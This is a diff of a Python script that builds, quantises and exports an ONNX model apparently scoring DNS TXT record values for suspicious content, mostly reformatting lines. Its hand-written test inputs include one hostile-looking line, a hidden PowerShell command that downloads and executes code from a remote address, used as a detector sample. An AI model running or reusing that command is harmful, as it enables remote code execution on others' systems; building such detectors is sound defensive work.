@@ -18,7 +18,7 @@ from onnxruntime.quantization import CalibrationDataReader, CalibrationMethod, Q
 
 import corpus
 from net import KERNELS, STRIDES, SUM_SCALE
-from reference import BUCKETS, CONTENT, PAD, STRIDE, VOCABULARY, WINDOW, bucket, normalise, windows
+from reference import BUCKETS, PAD, STRIDE, VOCABULARY, WINDOW, bucket, normalise, windows
 from texts import benign, disguised, suspicious
 
 THRESHOLD = 0.5
@@ -32,9 +32,13 @@ def graph(net, slope, offset):
         "embedding": weights["embedding.weight"],
         "conv1": weights["conv1.weight"][:, :, None, :],
         "conv2": weights["conv2.weight"][:, :, None, :],
-        "hidden_w": weights["hidden.weight"].T, "hidden_b": weights["hidden.bias"],
-        "out_w": weights["out.weight"].T * slope, "out_b": weights["out.bias"] * slope + offset,
-        "height": np.array([2], np.int64), "space": np.array([2, 3], np.int64), "scale": np.array(SUM_SCALE, np.float32),
+        "hidden_w": weights["hidden.weight"].T,
+        "hidden_b": weights["hidden.bias"],
+        "out_w": weights["out.weight"].T * slope,
+        "out_b": weights["out.bias"] * slope + offset,
+        "height": np.array([2], np.int64),
+        "space": np.array([2, 3], np.int64),
+        "scale": np.array(SUM_SCALE, np.float32),
     }
     conv = lambda k, s: {"kernel_shape": [1, k], "strides": [1, s], "pads": [0, 0, 0, k - s]}
     nodes = [
@@ -56,25 +60,39 @@ def graph(net, slope, offset):
     ]
     return helper.make_model(
         helper.make_graph(
-            nodes, "dnstxtscore",
+            nodes,
+            "dnstxtscore",
             [helper.make_tensor_value_info("ids", TensorProto.INT32, ["rows", "length"])],
             [helper.make_tensor_value_info("probability", TensorProto.FLOAT, ["rows", 1])],
-            [numpy_helper.from_array(np.ascontiguousarray(v, v.dtype if v.dtype == np.int64 else np.float32), k) for k, v in constants.items()]),
-        opset_imports=[helper.make_opsetid("", OPSET)], ir_version=9, producer_name="dnstxtscore models/train")
+            [
+                numpy_helper.from_array(np.ascontiguousarray(v, v.dtype if v.dtype == np.int64 else np.float32), k)
+                for k, v in constants.items()
+            ],
+        ),
+        opset_imports=[helper.make_opsetid("", OPSET)],
+        ir_version=9,
+        producer_name="dnstxtscore models/train",
+    )
 
 
 def padded(parts, length):
     ids = np.full((len(parts), length), PAD, np.int32)
     for row, one in enumerate(parts):
-        ids[row, :len(one)] = one
+        ids[row, : len(one)] = one
     return ids
 
 
 class _Calibration(CalibrationDataReader):
     def __init__(self, rows):
         pool = [ids for ids, _ in corpus.synthetic(5000, 77) + corpus.real(rows, 1500, 78)]
-        self.batches = iter([{"ids": padded(part[i:i + 64], b)} for b in BUCKETS
-                             for part in [[p for p in pool if bucket(len(p)) == b]] for i in range(0, len(part), 64)])
+        self.batches = iter(
+            [
+                {"ids": padded(part[i : i + 64], b)}
+                for b in BUCKETS
+                for part in [[p for p in pool if bucket(len(p)) == b]]
+                for i in range(0, len(part), 64)
+            ]
+        )
 
     def get_next(self):
         return next(self.batches, None)
@@ -84,25 +102,41 @@ def quantise(model, rows, path):
     with tempfile.TemporaryDirectory() as folder:
         source = Path(folder) / "float.onnx"
         onnx.save(model, source)
-        quantize_static(source, path, _Calibration(rows), quant_format=QuantFormat.QOperator, per_channel=True, reduce_range=True,
-                        activation_type=QuantType.QUInt8, weight_type=QuantType.QInt8, calibrate_method=CalibrationMethod.MinMax,
-                        op_types_to_quantize=["Conv", "Relu", "Gather", "Transpose", "Unsqueeze"],
-                        nodes_to_exclude=["relu_3"], extra_options={"ActivationSymmetric": False})
+        quantize_static(
+            source,
+            path,
+            _Calibration(rows),
+            quant_format=QuantFormat.QOperator,
+            per_channel=True,
+            reduce_range=True,
+            activation_type=QuantType.QUInt8,
+            weight_type=QuantType.QInt8,
+            calibrate_method=CalibrationMethod.MinMax,
+            op_types_to_quantize=["Conv", "Relu", "Gather", "Transpose", "Unsqueeze"],
+            nodes_to_exclude=["relu_3"],
+            extra_options={"ActivationSymmetric": False},
+        )
     channels_last(path)
 
 
 def channels_last(path):
-    """Pools over [rows, 1, length, channels], the layout in which ONNX Runtime's integer convolutions leave their result: no
-    transposing back, and maximum and sum go through whole vectors. A seventh of the time; scores differ by rounding (2e-7)."""
+    """Pools over [rows, 1, length, channels], the layout in which ONNX Runtime's integer convolutions leave it.
+    Nothing is transposed back, and maximum and sum go through whole vectors: a seventh of the time. Scores differ by
+    rounding (2e-7)."""
     model = onnx.load(path)
     nodes = {node.name: node for node in model.graph.node}
     dequantised = nodes["r2_DequantizeLinear"]
     at = list(model.graph.node).index(dequantised)
-    model.graph.node.insert(at, helper.make_node("Transpose", [dequantised.input[0]], ["r2_channels_last"], "channels_last", perm=[0, 2, 3, 1]))
+    model.graph.node.insert(
+        at,
+        helper.make_node("Transpose", [dequantised.input[0]], ["r2_channels_last"], "channels_last", perm=[0, 2, 3, 1]),
+    )
     dequantised.input[0] = "r2_channels_last"
     nodes["max"].attribute[0].CopyFrom(helper.make_attribute("axes", [1, 2]))
-    next(one for one in model.graph.initializer if one.name == "space").CopyFrom(numpy_helper.from_array(np.array([1, 2], np.int64), "space"))
-    del model.graph.value_info[:]       # shapes of the old layout
+    next(one for one in model.graph.initializer if one.name == "space").CopyFrom(
+        numpy_helper.from_array(np.array([1, 2], np.int64), "space")
+    )
+    del model.graph.value_info[:]  # shapes of the old layout
     onnx.checker.check_model(model, full_check=True)
     onnx.save(model, path)
 
@@ -115,21 +149,44 @@ def session(path_or_bytes):
 
 def score(run, values):
     """The probability of each normalised value, through the exported file."""
-    flat = sorted(((v, ids) for v, value in enumerate(values) for ids in windows(value)), key=lambda x: bucket(len(x[1])))
+    flat = sorted(
+        ((v, ids) for v, value in enumerate(values) for ids in windows(value)), key=lambda x: bucket(len(x[1]))
+    )
     out = np.zeros(len(values))
     for b in BUCKETS:
         part = [x for x in flat if bucket(len(x[1])) == b]
         for i in range(0, len(part), 64):
-            got = run.run(["probability"], {"ids": padded([ids for _, ids in part[i:i + 64]], b)})[0][:, 0]
-            for (v, _), one in zip(part[i:i + 64], got):
+            got = run.run(["probability"], {"ids": padded([ids for _, ids in part[i : i + 64]], b)})[0][:, 0]
+            for (v, _), one in zip(part[i : i + 64], got):
                 out[v] = max(out[v], one)
     return out
 
 
 BY_HAND = (
-    "v=spf1 -all", "TXT 11 v=spf1 -all", "TXT 5 v=spf TXT 6 1 -all", "TXT 12 v=spf1 -all", '"v=DKIM1; k=rsa; p=" "MIGfMA0"',
-    '"a" payload', r"caf\195\169", r"TXT 5 caf\xc3\xa9", "  spaced  ", "a", r"\"quoted\" \\ \256", "x" * 30, "x" * 31, "x" * 510, "x" * 511, "y" * 3000,
-    "TXT 0  TXT 3 abc", "TXT 0", '""', '"" ""', "TXT 2 \"\"", "TXT 1  ", "naïve домен 域名", "whoami",
+    "v=spf1 -all",
+    "TXT 11 v=spf1 -all",
+    "TXT 5 v=spf TXT 6 1 -all",
+    "TXT 12 v=spf1 -all",
+    '"v=DKIM1; k=rsa; p=" "MIGfMA0"',
+    '"a" payload',
+    r"caf\195\169",
+    r"TXT 5 caf\xc3\xa9",
+    "  spaced  ",
+    "a",
+    r"\"quoted\" \\ \256",
+    "x" * 30,
+    "x" * 31,
+    "x" * 510,
+    "x" * 511,
+    "y" * 3000,
+    "TXT 0  TXT 3 abc",
+    "TXT 0",
+    '""',
+    '"" ""',
+    'TXT 2 ""',
+    "TXT 1  ",
+    "naïve домен 域名",
+    "whoami",
     "powershell -nop -w hidden -c IEX(New-Object Net.WebClient).DownloadString('http://192.0.2.7/a')",
 )
 
@@ -138,7 +195,11 @@ def reference_rows(run):
     """Texts of our own with what this implementation makes of them: for `tests/reference.rs`."""
     r = random.Random(2026)
     cells = [text.encode() for text in BY_HAND]
-    cells += [benign(r)[:1500] for _ in range(120)] + [suspicious(r)[0][:1500] for _ in range(70)] + [disguised(r)[0][:1500] for _ in range(60)]
+    cells += (
+        [benign(r)[:1500] for _ in range(120)]
+        + [suspicious(r)[0][:1500] for _ in range(70)]
+        + [disguised(r)[0][:1500] for _ in range(60)]
+    )
     values = [normalise(cell) for cell in cells]
     for cell, value, probability in zip(cells, values, score(run, values)):
         try:
@@ -152,11 +213,19 @@ def write(folder, net, slope, offset, rows):
     folder.mkdir(parents=True, exist_ok=True)
     path = folder / "model.onnx"
     quantise(graph(net, slope, offset), rows, path)
-    config = {"name": folder.name, "window": WINDOW, "stride": STRIDE, "padding": PAD, "vocabulary": VOCABULARY, "buckets": list(BUCKETS),
-              "threshold": THRESHOLD, "input": "ids", "output": "probability"}
+    config = {
+        "name": folder.name,
+        "window": WINDOW,
+        "stride": STRIDE,
+        "padding": PAD,
+        "vocabulary": VOCABULARY,
+        "buckets": list(BUCKETS),
+        "threshold": THRESHOLD,
+        "input": "ids",
+        "output": "probability",
+    }
     (folder / "config.json").write_text(json.dumps(config, indent=2) + "\n")
     with open(folder / "reference.jsonl", "w") as out:
         for row in reference_rows(session(str(path))):
             out.write(json.dumps(row, separators=(",", ":")) + "\n")
-    assert CONTENT == WINDOW - 2
     print(f"{path}: {path.stat().st_size:,} bytes")
